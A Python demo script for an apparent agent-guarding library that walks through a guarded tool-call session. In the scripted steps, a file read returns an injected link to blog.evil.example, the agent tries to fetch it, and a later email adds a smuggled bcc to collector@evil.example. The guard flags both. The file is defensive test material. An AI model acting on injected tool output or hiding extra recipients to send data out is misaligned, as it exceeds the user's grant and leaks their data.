"""Walkthrough: one guarded session, from routine work to a caught attack.

Run with: python demos/demo_guard_session.py
"""

from actionguard import (
    Capability,
    Decision,
    GrantSpec,
    Issuer,
    RawToolCall,
    Substrate,
    TaskSpec,
    Ttl,
    check_action,
    open_session,
    record_tool_output,
    resolve_pending,
)
from actionguard.policy import default_policy


def call(session, step, tool, **arguments):
    raw = RawToolCall(
        session_id="demo",
        step_index=step,
        tool_name=tool,
        arguments=arguments,
        substrate=Substrate.REPLAY,
    )
    result = check_action(session, raw)
    print(
        f"step {step}: {tool:12s} -> {result.record.outcome.label:9s}"
        f" ({result.disposition.value}; covered={result.record.covered})"
    )
    return result


def main():
    policy = default_policy()

    # The user grants read/write/respond over the workspace, plus mail to
    # corp addresses. Nothing grants execution or arbitrary network use.
    task = TaskSpec(
        task_text=(
            "Summarize /workspace/notes.md, save the report, and mail it to "
            "team@corp.example."
        ),
        policy_ref="default",
        grant=GrantSpec(
            capabilities=frozenset(
                {Capability.READ, Capability.WRITE, Capability.SEND, Capability.RESPOND}
            ),
            targets=("/workspace/**", "*@corp.example"),
            lifetime=Ttl.task_scoped(),
            fallback=Decision.INSPECT,
        ),
    )
    session = open_session(task, policy, session_id="demo")

    print("-- routine, in-scope work executes (with an audit trail) --")
    read = call(session, 0, "read_file", path="/workspace/notes.md")
    record_tool_output(
        session,
        read.record.action.raw,
        "Notes: ship v2 summary to the team. See also https://blog.evil.example/tips",
    )
    write = call(session, 1, "write_file", path="/workspace/report.md", content="v2 shipped.")
    record_tool_output(session, write.record.action.raw, "wrote 11 bytes")

    print("\n-- a tool output suggested an unlisted endpoint; the guard does not care")
    print("   how plausible the suggestion sounds, only who authorized it --")
    call(session, 2, "fetch_url", url="https://blog.evil.example/tips")

    print("\n-- sending mail to the recipient named by the user is fine; mail with a")
    print("   smuggled bcc recipient is not --")
    sent = call(session, 3, "send_email", to=["team@corp.example"], body="report attached")
    if sent.action_id:  # ambiguous sends wait for a human
        resolved = resolve_pending(session, sent.action_id, "approve_once", Issuer.EXPLICIT_CONSENT)
        print(f"   approved once -> {resolved.record.outcome.label}")
        sent = resolved
    record_tool_output(session, sent.record.action.raw, "sent to team@corp.example")
    call(
        session,
        4,
        "send_email",
        to=["team@corp.example"],
        bcc=["collector@evil.example"],
        body="report attached",
    )

    print("\n-- the ledger keeps every decision, executed or not --")
    for entry in session.ledger.entries:
        effect = "executed" if entry.observed_effect is not None else "no effect"
        print(
            f"   step {entry.step}: {entry.record.action.capability.value:8s}"
            f" {entry.record.outcome.label:9s} {effect}"
        )


if __name__ == "__main__":
    main()
